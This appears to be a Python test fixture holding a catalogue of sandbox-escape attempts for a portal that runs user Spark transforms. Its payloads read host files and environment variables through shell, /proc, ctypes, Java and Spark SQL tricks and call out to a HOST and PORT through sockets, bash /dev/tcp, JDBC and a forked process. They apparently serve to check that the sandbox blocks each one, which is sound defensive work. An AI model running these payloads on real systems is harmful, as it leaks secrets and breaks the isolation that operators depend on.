# ruff: noqa: E501 - an attempt on one line is easier to compare with its neighbours
"""Attempts to get out of the rehearsal, for a day on which the policy lets one through.

Each is the body of a transform over orders that raises what it got: `FILE` is a file of the portal's machine, `KEY` a
variable of the portal's environment, HOST and PORT where somebody listens.
"""

from __future__ import annotations

_JVM = "jvm = spark.sparkContext._jvm\n"
_PATH = "path = jvm.java.nio.file.Paths.get(FILE, spark.sparkContext._gateway.new_array(jvm.java.lang.String, 0))\n"

FILES: dict[str, str] = {
    "open": "raise ValueError(open(FILE).read())",
    "pathlib": "import pathlib\nraise ValueError(pathlib.Path(FILE).read_text())",
    "file descriptors": "import os\nraise ValueError(os.read(os.open(FILE, 0), 100))",
    "another program": "import subprocess\nraise ValueError(subprocess.run(['cat', FILE], capture_output=True).stdout)",
    "a shell": "import os\nraise ValueError(os.popen('cat ' + FILE).read())",
    "the root of a process": "import glob, os\nraise ValueError([open(root + FILE).read() for root in glob.glob('/proc/[0-9]*/root') if os.path.exists(root + FILE)])",
    "a new mount": "import os\nos.system('mount -t tmpfs none /mnt; unshare -Urm true')\nraise ValueError(open(FILE).read())",
    "Java": _JVM + _PATH + "raise ValueError(str(jvm.java.nio.file.Files.readAllLines(path)))",
    "Spark's reader": "raise ValueError(spark.read.text('file://' + FILE).collect())",
    "a path as a table": "raise ValueError(spark.sql('SELECT * FROM text.`' + FILE + '`').collect())",
    "a script in SQL": 'raise ValueError(spark.sql("SELECT TRANSFORM(id) USING \'cat " + FILE + "\' FROM range(1)").collect())',
    "reflection in SQL": "raise ValueError(spark.sql(\"SELECT reflect('org.apache.commons.io.FileUtils', 'readFileToString', '\" + FILE + \"')\").collect())",
    "a function on rows": "read = F.udf(lambda x: open(FILE).read())\nraise ValueError(spark.range(1).select(read('id')).collect())",
    "a file for all workers": "spark.sparkContext.addFile(FILE)\nfrom pyspark import SparkFiles\nraise ValueError(open(SparkFiles.get(FILE.rsplit('/', 1)[1])).read())",
}

ENVIRONMENT: dict[str, str] = {
    "os.environ": "import os\nraise ValueError(os.environ[KEY])",
    "the C library": "import ctypes\nget = ctypes.CDLL(None).getenv\nget.restype = ctypes.c_char_p\nraise ValueError(get(KEY.encode()))",
    "every process": "import glob\nraise ValueError([open(name, 'rb').read() for name in glob.glob('/proc/[0-9]*/environ')])",
    "the parent": "import os\nraise ValueError(open('/proc/%d/environ' % os.getppid()).read())",
    "Java": _JVM + "raise ValueError(str(jvm.java.lang.System.getenv()))",
    "reflection in SQL": "raise ValueError(spark.sql(\"SELECT reflect('java.lang.System', 'getenv', '\" + KEY + \"')\").collect())",
    "a variable in SQL": 'raise ValueError(spark.sql("SELECT \'${env:" + KEY + "}\'").collect())',
    "a shell": "import os\nraise ValueError(os.popen('env').read())",
}

NETWORK: dict[str, str] = {
    "a socket": "import socket\nsocket.create_connection((HOST, PORT), 2).send(b'x')\nreturn orders",
    "in a default argument": "import socket\ndef h(s=socket.create_connection((HOST, PORT), 2)):\n    return s\nreturn orders",
    "urllib": "import urllib.request\nurllib.request.urlopen('http://%s:%d/' % (HOST, PORT), timeout=2)\nreturn orders",
    "a shell": "import os\nos.system('timeout 2 bash -c \"echo x > /dev/tcp/%s/%d\"' % (HOST, PORT))\nreturn orders",
    "Java": _JVM + "jvm.java.net.Socket(HOST, PORT).close()\nreturn orders",
    "Hadoop": "spark.read.text('http://%s:%d/x' % (HOST, PORT)).collect()\nreturn orders",
    "a database": "spark.read.format('jdbc').options(url='jdbc:derby://%s:%d/x' % (HOST, PORT), dbtable='x', driver='org.apache.derby.jdbc.AutoloadedDriver').load()\nreturn orders",
    "a process left behind": "import os, socket, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(1)\n    socket.create_connection((HOST, PORT), 2)\n    os._exit(0)\nreturn orders",
}


def text(body: str, *, file: str, key: str, host: str, port: int) -> str:
    """The attempt as a transform over orders and users."""
    constants = f"FILE, KEY, HOST, PORT = {file!r}, {key!r}, {host!r}, {port!r}\n"
    lines = "".join(f"    {line}\n" for line in body.split("\n"))
    return f"{constants}def transform(spark, orders, users):\n{lines}"
